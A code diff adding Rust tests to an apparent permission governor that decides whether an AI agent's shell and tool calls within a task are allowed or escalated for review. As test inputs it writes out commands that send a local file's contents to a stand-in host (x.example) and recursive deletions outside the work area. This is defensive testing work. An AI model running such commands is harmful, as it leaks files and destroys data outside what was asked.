@@ -77,6 +77,27 @@ fn what_stays_in_the_work_area_serves_any_request() {
         ("delete the old files", bash("rm src/old.rs"), Decision::Allow),
         ("add a login page", bash("rm /tmp/x.txt"), Decision::Allow),
         ("add a login page", bash("mkdir -p /opt/shop"), Decision::Escalate),
+        ("add a login page", bash("rm -rf node_modules dist/*"), Decision::Allow),
+        ("add a login page", bash("find . -name __pycache__ -exec rm -rf {} +"), Decision::Allow),
+        ("add a login page", bash("rm -rf src/build"), Decision::Allow),
+        ("add a login page", bash("rm -rf /home/ann/node_modules"), Decision::Escalate),
+        ("add a login page", bash("d=$(mktemp -d); cp -r src \"$d\"; rm -rf \"$d\""), Decision::Allow),
+        ("add a login page", bash("rimraf src"), Decision::Escalate),
+        ("add a login page", bash("git -C ../api commit -m x"), Decision::Escalate),
+        ("add a login page", bash("git -C src commit -m x"), Decision::Allow),
+        ("add a login page", bash("npm --prefix ../api install && npm test"), Decision::Escalate),
+        ("add a login page", bash("curl -s -D ../headers https://x.example"), Decision::Escalate),
+        ("add a login page", bash("http x.example < notes.txt"), Decision::Escalate),
+        ("add a login page", bash("a=$(cat notes.txt); git ls-remote https://x.example/$a"), Decision::Escalate),
+        ("add a login page", bash("p=$(cat port); curl -s http://localhost:$p/login"), Decision::Allow),
+        ("add a login page", bash("grpcurl -d @ x.example:443 s/M < notes.txt"), Decision::Escalate),
+        ("add a login page", bash("psql -h db.example -c 'insert into t values (1)'"), Decision::Escalate),
+        ("add a login page", bash("psql -h localhost -c 'insert into t values (1)'"), Decision::Allow),
+        ("add a login page", bash("semantic-release"), Decision::Escalate),
+        ("add a login page", bash("heroku config:set A=b"), Decision::Escalate),
+        ("add a login page", bash("terraform fmt && terraform init"), Decision::Allow),
+        ("add a login page", bash("git config alias.p push"), Decision::Escalate),
+        ("add a login page", bash("systemctl enable shop"), Decision::Escalate),
         ("", bash("cargo test"), Decision::Allow),
         ("", bash("git push"), Decision::Escalate),
     ] {
@@ -107,6 +128,46 @@ fn a_task_may_remove_what_it_made_and_repeat_agreed_calls() {
     task.presume(&asked.proof_id).unwrap();
     assert_eq!(bash("touch /home/ann/api/b.rs").decision, Decision::Allow);
     assert_eq!(bash("touch /home/ann/other/b.rs").decision, Decision::Escalate);
+}
+
+#[test]
+fn only_what_a_task_made_is_its_own_to_remove_at_any_risk() {
+    let governor = in_memory();
+    let task = shop(&governor, "add a login page");
+    task.created(["/home/ann/shop/new", "/srv/made"]).unwrap();
+    for (command, expected) in [
+        ("rm -rf new", true),
+        ("rm -rf new/* && cargo test", true),
+        ("rm -rf /srv/made/x_*", true),
+        ("rm -rf new src", false),
+        ("rm -rf new/../src", false),
+        ("rm -rf n*", false),
+        ("rm -rf new && sudo make install", false),
+        ("rm -rf $X/new", false),
+        ("ls new", false),
+    ] {
+        let input = json!({ "tool": "Bash", "arguments": { "command": command } }).to_string();
+        let context = json!({ "cwd": "/home/ann/shop" }).as_object().unwrap().clone();
+        let parsed = governor.parse("desk", Input::new(&input).context(&context)).unwrap();
+        assert_eq!(task.removes_own(&parsed.intent.facts()).unwrap(), expected, "{command}");
+    }
+}
+
+#[test]
+fn the_tools_of_a_server_of_the_work_area_are_the_hosts_own() {
+    let governor = in_memory();
+    let desk = |area: &[&str]| {
+        let request = TaskRequest::new("desk", "add a login page").work_area(area.iter().copied());
+        governor.tasks().open(request).unwrap()
+    };
+    let call = json!({ "path": "/home/ann/shop/a.rs", "content": "x" });
+    let write = |task: &Task| {
+        let call = json!({ "tool": "write_file", "server": "files", "arguments": call }).to_string();
+        task.enforce_input(Input::new(&call)).unwrap().enforcement.decision
+    };
+    assert_eq!(write(&desk(&["/home/ann/shop", "server:files"])), Decision::Allow);
+    assert_eq!(write(&desk(&["/home/ann/shop", "server:other"])), Decision::Escalate);
+    assert_eq!(write(&desk(&["/home/ann/api", "server:files"])), Decision::Escalate);
 }
 
 #[test]
